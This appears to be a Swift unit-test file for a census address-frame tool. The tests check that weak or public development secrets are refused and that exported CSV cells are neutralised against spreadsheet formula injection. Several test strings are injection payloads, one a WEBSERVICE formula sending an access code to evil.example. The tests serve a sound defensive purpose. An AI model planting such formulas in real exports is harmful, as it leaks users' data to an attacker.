import Foundation
import XCTest
@testable import AddressFrame

/// Secrets that are not secret, and CSV cells a spreadsheet would run (issue 13).
final class SecretsAndCSVTests: XCTestCase {
    func testLowEntropySecretsAreRefused() throws {
        for (name, bytes) in [("32 x a", Array(repeating: UInt8(ascii: "a"), count: 32)),
                              ("32 spaces", Array(repeating: UInt8(ascii: " "), count: 32)),
                              ("32 NUL bytes", Array(repeating: UInt8(0), count: 32)),
                              ("a repeated word", Array(String(repeating: "password", count: 5).utf8)),
                              ("a run", Array("abcdefghijklmnopqrstuvwxyz0123456789".utf8))] {
            XCTAssertThrowsError(try DeploymentSecret(bytes: bytes, source: name), name) {
                guard case .tooWeak? = $0 as? SecretError else { return XCTFail("\(name): \($0)") }
            }
        }
        // What the documentation tells operators to make, and a 128-bit hex secret, pass.
        XCTAssertNoThrow(try DeploymentSecret(bytes: Array(testSecretText().utf8), source: "base64"))
        let hex = (0..<16).map { String(format: "%02x", ($0 &* 89 &+ 17) % 256 ^ 0x5a) }.joined()
        XCTAssertGreaterThan(DeploymentSecret.estimatedBits(Array(hex.utf8)), DeploymentSecret.minimumBits, hex)
    }

    func testThePublicDevelopmentSecretIsRefusedUnlessAskedFor() throws {
        let dev = "census-development-secret-DO-NOT-USE-IN-PRODUCTION"
        XCTAssertThrowsError(try DeploymentSecret.load(environment: ["CENSUS_CODE_SECRET": dev], allowDevelopment: false)) {
            XCTAssertEqual($0 as? SecretError, .publicDevelopmentSecret(source: "environment variable CENSUS_CODE_SECRET"))
        }
        XCTAssertTrue(try DeploymentSecret.load(environment: ["CENSUS_CODE_SECRET": dev], allowDevelopment: true).isDevelopment)
        XCTAssertThrowsError(try DeploymentSecret(bytes: Array(dev.utf8), source: "x"))
    }

    func testCLIRefusesWeakAndPublicSecretsAndStatsShowsADevelopmentFrame() throws {
        let dir = try makeTempDirectory(self)
        XCTAssertEqual(try census(["frame", "generate", "--households", "20", "--out", "fr"], in: dir).status, 0)
        let nul = dir.appendingPathComponent("nul-secret")
        try Data(count: 32).write(to: nul)
        for (env, expected) in [(["CENSUS_CODE_SECRET": String(repeating: "a", count: 32)], "is not random enough"),
                                (["CENSUS_CODE_SECRET": String(repeating: " ", count: 32)], "is not random enough"),
                                (["CENSUS_CODE_SECRET_FILE": nul.path], "is not random enough"),
                                (["CENSUS_CODE_SECRET": "census-development-secret-DO-NOT-USE-IN-PRODUCTION"], "is the public development secret")] {
            let r = try census(["frame", "codes", "issue", "--dir", "fr", "--letters", "l.csv"], in: dir, environment: env)
            XCTAssertEqual(r.status, 1, "\(env)")
            XCTAssertEqual(r.messageLines.count, 1, r.stderr)
            XCTAssertTrue(r.stderr.contains(expected), r.stderr)
        }
        XCTAssertFalse(FileManager.default.fileExists(atPath: dir.appendingPathComponent("l.csv").path))
        var stats = try census(["frame", "stats", "--dir", "fr"], in: dir)
        XCTAssertTrue(stats.stdout.contains("access-code secret: none recorded yet"), stats.stdout)

        let issued = try census(["frame", "codes", "issue", "--dir", "fr", "--letters", "l.csv", "--dev-secret"], in: dir)
        XCTAssertEqual(issued.status, 0)
        XCTAssertTrue(issued.stderr.hasPrefix("warning: using the public development secret"), issued.stderr)
        stats = try census(["frame", "stats", "--dir", "fr"], in: dir)
        XCTAssertTrue(stats.stdout.contains("access-code secret: the PUBLIC DEVELOPMENT SECRET (--dev-secret)"), stats.stdout)
        // Later, with the deployment's secret: the mismatch says the frame is tied to the public one.
        let code = CSV.parse(try Data(contentsOf: dir.appendingPathComponent("l.csv"))).records[1].fields[2]
        let lookup = try census(["frame", "lookup", "--dir", "fr", code], in: dir, environment: ["CENSUS_CODE_SECRET": testSecretText()])
        XCTAssertEqual(lookup.status, 1)
        XCTAssertTrue(lookup.stderr.contains("This frame's codes were issued with the PUBLIC DEVELOPMENT SECRET (--dev-secret)"), lookup.stderr)
    }

    func testCellsASpreadsheetWouldRunAreNeutralised() {
        XCTAssertEqual(CSV.neutralized("=WEBSERVICE(\"http://x/?c=\"&C2)"), "'=WEBSERVICE(\"http://x/?c=\"&C2)")
        for cell in ["+44 113 496 0000", "-1+1", "@SUM(A1:A2)", "\t=1", "\r=1", "=1"] {
            XCTAssertEqual(CSV.neutralized(cell), "'" + cell, cell.debugDescription)
            XCTAssertEqual(CSV.restored(CSV.neutralized(cell)), cell)
        }
        for cell in ["Flat 3", "-12", "+4.5", "3-5 Acacia Road", "", "'quoted'"] {
            XCTAssertEqual(CSV.neutralized(cell), cell, cell.debugDescription)
            XCTAssertEqual(CSV.restored(cell), cell)
        }
        XCTAssertEqual(CSV.line(["H1", "=1+2", "a,b", "\r=x"]), "H1,'=1+2,\"a,b\",\"'\r=x\"\n")
    }

    func testLettersNeverCarryAFormulaBesideTheCode() throws {
        let dir = try makeTempDirectory(self)
        let header = "household_id,address_line_1,address_line_2,address_line_3,postcode,output_area,lsoa,local_authority\n"
        let row = "H1,\"=WEBSERVICE(\"\"http://evil.example/?c=\"\"&C2)\",@x,+1 Street,LS1 5NF,E00000001,E01000001,E08000035\n"
        try Data((header + row).utf8).write(to: dir.appendingPathComponent("f.csv"))
        XCTAssertEqual(try census(["frame", "import", "f.csv", "--out", "fr"], in: dir).status, 0)
        XCTAssertEqual(try census(["frame", "codes", "issue", "--dir", "fr", "--letters", "l.csv", "--dev-secret"], in: dir).status, 0)
        let text = try String(contentsOf: dir.appendingPathComponent("l.csv"), encoding: .utf8)
        let cells = CSV.parse(Data(text.utf8)).records[1].fields
        XCTAssertEqual(cells[3], "'=WEBSERVICE(\"http://evil.example/?c=\"&C2)")
        XCTAssertEqual(cells[4], "'@x")
        XCTAssertEqual(cells[5], "'+1 Street")
        for cell in cells { XCTAssertFalse(CSV.formulaTriggers.contains(cell.first ?? "a"), cell) }
    }

    func testAGeneratedFrameCSVImportsAsItWasGenerated() throws {
        let dir = try makeTempDirectory(self)
        let h = Household(householdID: "-H1", addressLine1: "=1+1", addressLine2: "@home", postcode: "LS1 5NF",
                          outputArea: "E00000001", lsoa: "E01000001", localAuthority: "E08000035")
        let text = CSV.line(Household.csvHeader) + CSV.line(h.csvFields)
        XCTAssertTrue(text.contains("'-H1,'=1+1,'@home"), text)
        let frame = try AddressFrame.open(at: dir.appendingPathComponent(AddressFrame.fileName), create: true)
        defer { try? frame.close() }
        try frame.importCSV(Data(text.utf8))
        XCTAssertEqual(try frame.household("-H1"), h)
    }
}
